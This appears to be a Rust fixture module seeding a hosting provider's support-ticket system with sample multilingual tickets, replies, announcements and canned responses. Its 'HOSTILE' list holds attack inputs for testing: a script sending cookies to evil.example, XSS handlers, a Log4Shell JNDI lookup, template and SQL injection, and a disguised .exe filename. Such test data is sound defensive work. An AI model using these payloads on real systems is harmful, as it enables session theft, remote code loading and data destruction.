//! What clients and staff write. `{…}` stands for something of the ticket's client.

/// A conversation: how it begins and goes on.
pub(super) struct Topic {
    /// Department id.
    pub(super) department: u64,
    /// Subject.
    pub(super) subject: &'static str,
    /// First message.
    pub(super) opening: &'static str,
    /// Staff and client in turn, staff first.
    pub(super) turns: &'static [&'static str],
    /// It is about a service.
    pub(super) service: bool,
}

pub(super) const TOPICS: &[Topic] = &[
    Topic {
        department: 2,
        subject: "Server {domain} not reachable",
        opening: "Hello,\r\n\r\nour server {domain} ({ip}) has not answered since this morning. Ping and SSH both time out.\r\nCould you please have a look? Our shop is down.\r\n\r\nThanks\r\n{name}",
        turns: &[
            "Hello {name},\r\n\r\nthe machine had run out of memory and the kernel stopped the network stack. I have restarted it and it answers again.\r\nPlease keep an eye on the memory use of your database.\r\n\r\n{staff}",
            "Great, it is back. We will lower the buffer pool. Thank you for the quick help!",
        ],
        service: true,
    },
    Topic {
        department: 2,
        subject: "Rescue-System für {domain}",
        opening: "Guten Tag,\r\n\r\nnach einem fehlgeschlagenen Kernel-Update bootet {domain} nicht mehr. Können Sie bitte das Rescue-System starten und mir die Zugangsdaten schicken?\r\n\r\nMit freundlichen Grüßen\r\n{name}",
        turns: &[
            "Guten Tag {name},\r\n\r\ndas Rescue-System läuft. Melden Sie sich bitte als root mit dem im Kundenbereich hinterlegten Passwort an.\r\n\r\n{staff}",
            "Danke, hat geklappt. GRUB ist repariert, der Server läuft wieder normal.",
            "Prima. Dann schließe ich das Ticket.",
        ],
        service: true,
    },
    Topic {
        department: 3,
        subject: "Question about invoice",
        opening: "Hi,\r\n\r\nI was charged twice this month, once by card and once by PayPal. Please refund one of the payments.\r\n\r\n{name}\r\n{company}",
        turns: &[
            "Hello {name},\r\n\r\nI can see one payment by card. The PayPal amount is a reservation which was never captured and will disappear in a few days. Could you send me the transaction number if it does not?\r\n\r\n{staff}",
            "It disappeared today. Sorry for the noise.",
        ],
        service: false,
    },
    Topic {
        department: 3,
        subject: "Mahnung erhalten, aber bezahlt",
        opening: "Sehr geehrte Damen und Herren,\r\n\r\nwir haben eine Mahnung bekommen, die Rechnung wurde aber am 3. überwiesen. Bitte prüfen.\r\n\r\n{company}\r\n{name}",
        turns: &[
            "Guten Tag {name},\r\n\r\ndie Überweisung ist ohne Rechnungsnummer angekommen. Ich habe sie zugeordnet, die Mahnung ist gegenstandslos.\r\n\r\n{staff}",
        ],
        service: false,
    },
    Topic {
        department: 2,
        subject: "How do I add an SSH key?",
        opening: "Hi there, I'd like to reinstall {domain} with Debian 12 and log in by key only. Where do I put my key?\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleOnlyNotARealKeyExampleOnlyNotAReal {name}",
        turns: &[
            "Hello {name},\r\n\r\nplease mind that a reinstallation erases the disk. Shall I go ahead with Debian 12 and your key, and when?\r\n\r\n{staff}",
            "Yes please, any time tonight after 22:00. There is nothing on it worth keeping.",
            "Done. You can log in as root with your key now.",
            "Perfect 👍",
        ],
        service: true,
    },
    Topic {
        department: 1,
        subject: "Upgrade to a bigger plan",
        opening: "Hello,\r\n\r\nwe are growing and {domain} is too small. What would the next size cost, and can it be done without reinstalling?\r\n\r\nBest\r\n{name}",
        turns: &[
            "Hello {name},\r\n\r\nthanks for asking! We would set up the bigger machine beside the old one so that you can move in your own time, and credit the unused days.\r\n\r\n{staff}",
            "Sounds good, please send an offer.",
            "The quote is in your client area.",
        ],
        service: true,
    },
    Topic {
        department: 4,
        subject: "Abuse report for {ip}",
        opening: "Dear abuse team,\r\n\r\nwe have received SSH login attempts from {ip} between 02:11 and 02:47 UTC. Log excerpt:\r\n\r\nsshd[811]: Failed password for root from {ip} port 40122 ssh2\r\nsshd[811]: Failed password for root from {ip} port 40130 ssh2\r\n\r\nPlease take appropriate action.",
        turns: &["Thank you for the report. The customer has been informed and the machine is being cleaned."],
        service: true,
    },
    Topic {
        department: 2,
        subject: "Slow disk since yesterday",
        opening: "iowait on {domain} is at 60% since yesterday evening, nothing changed on our side. See below.\r\n\r\n```\r\navg-cpu:  %user   %nice %system %iowait  %steal   %idle\r\n           3.10    0.00    2.40   61.20    1.00   32.30\r\n```\r\n\r\n{name}",
        turns: &[
            "Hello {name},\r\n\r\na neighbour on the same host was rebuilding a large array. It finished an hour ago; could you check again?\r\n\r\n{staff}",
            "Better, but still not as fast as last week. I'll watch it over the weekend.",
        ],
        service: true,
    },
    Topic {
        department: 2,
        subject: "Changement du reverse DNS",
        opening: "Bonjour,\r\n\r\npourriez-vous mettre le reverse DNS de {ip} à mail.{domain} ? Nos courriels sont refusés.\r\n\r\nCordialement,\r\n{name}",
        turns: &[
            "Bonjour {name},\r\n\r\nc'est fait, la propagation prend jusqu'à une heure.\r\n\r\n{staff}",
            "Merci beaucoup, ça marche !",
        ],
        service: true,
    },
    Topic {
        department: 1,
        subject: "Do you offer IPv6 and private networking?",
        opening: "Before I order: does every server come with IPv6, and can I put three of them into one private network in the same region?",
        turns: &["Hello {name},\r\n\r\nyes to both. The private network is an add-on per server.\r\n\r\n{staff}"],
        service: false,
    },
    Topic {
        department: 2,
        subject: "Backup wiederherstellen",
        opening: "Hallo,\r\n\r\nich habe aus Versehen die Datenbank auf {domain} gelöscht :-( Gibt es ein Backup von gestern?\r\n\r\n{name}",
        turns: &[
            "Hallo {name},\r\n\r\nes gibt einen Snapshot von gestern 03:00 Uhr. Ein Rollback setzt die ganze Maschine zurück. Einverstanden?\r\n\r\n{staff}",
            "Ja bitte!!",
            "Erledigt, bitte prüfen.",
            "Alles wieder da. Ihr seid die Besten.",
        ],
        service: true,
    },
    Topic {
        department: 3,
        subject: "VAT number and invoices",
        opening: "Hello, we now have a VAT number. Please remove the tax from future invoices and reissue the last one.\r\n\r\n{company}",
        turns: &[
            "Hello {name},\r\n\r\nI have added the number and checked it. Future invoices are without tax; issued ones cannot be changed, so you get a credit for the last one.\r\n\r\n{staff}",
        ],
        service: false,
    },
];

/// Messages that a careless reader would execute, load or choke on.
pub(super) const HOSTILE: &[(&str, &str)] = &[
    (
        "<script>alert(document.cookie)</script>",
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>\r\n<p>My server is slow</p>",
    ),
    (
        "Image does not load",
        "<img src=x onerror=\"alert(1)\"><img src=\"https://tracker.example/pixel.gif?id=4711\" width=1 height=1>\r\nPlease see the picture above.",
    ),
    (
        "Fwd: urgent payment",
        "<a href=\"javascript:alert(1)\">Click to confirm the payment</a> <iframe src=\"https://evil.example\"></iframe> <style>body{display:none}</style>",
    ),
    (
        "سؤال عن الفاتورة",
        "مرحباً،\r\n\r\nهل يمكنكم إرسال الفاتورة باللغة العربية؟ الخادم \u{202e}gnp.exe\u{202c} يعمل جيداً.\r\n\r\nشكراً",
    ),
    (
        "&lt;b&gt;Entities&lt;/b&gt; &amp; more",
        "It says &quot;Fish &amp; Chips&quot; &#039;here&#039; and &lt;b&gt;bold&lt;/b&gt;, is that intended?",
    ),
    ("${jndi:ldap://evil.example/a} {{7*7}} %s%s%n", "'; DROP TABLE tbltickets; -- \u{0}\u{7}\u{1b}[31mred\u{1b}[0m"),
];

/// Announcements: title, text.
pub(super) const ANNOUNCEMENTS: &[(&str, &str)] = &[
    ("New region: Japan", "<p>Servers can now be ordered in <b>Asia (Japan)</b>.</p>"),
    (
        "Planned maintenance of Rhea",
        "<p>The server Rhea will be retired. All accounts move to Titan during the night.</p>",
    ),
    ("Debian 13 available", "<p>The image is available for new installations and reinstallations.</p>"),
    ("Price change for additional IPv4", "<p>From next month an additional address costs 4.50 EUR.</p>"),
    ("Holiday opening hours", "<p>Support answers around the clock; billing is back on the 2nd.</p>"),
    ("Two-factor login for everybody", "<p>Please switch it on in your profile.</p>"),
];

/// Prepared replies: category, name, text.
pub(super) const PREPARED: &[(&str, &str, &str)] = &[
    (
        "General",
        "Thank you",
        "Hello [NAME],\r\n\r\nthank you for your message. We are looking into it.\r\n\r\n[SIGNATURE]",
    ),
    (
        "General",
        "Anything else",
        "Hello [NAME],\r\n\r\nis there anything else we can do for you? Otherwise we close this ticket.",
    ),
    (
        "Servers",
        "Restarted",
        "Hello [NAME],\r\n\r\nwe have restarted your server. Please check whether it answers again.",
    ),
    (
        "Servers",
        "Reinstall warning",
        "Hello [NAME],\r\n\r\na reinstallation erases everything on the disk. Please confirm.",
    ),
    (
        "Servers",
        "Rescue system",
        "Hello [NAME],\r\n\r\nthe rescue system is running. Log in as root with the password of your choice.",
    ),
    ("Billing", "Payment received", "Hello [NAME],\r\n\r\nyour payment has arrived. Thank you!"),
    (
        "Billing",
        "Payment details",
        "Hello [NAME],\r\n\r\nplease put the invoice number into the reference of your transfer.",
    ),
    (
        "Abuse",
        "Forwarded report",
        "Hello [NAME],\r\n\r\nwe have received the report below about your server. Please answer within 24 hours.",
    ),
];
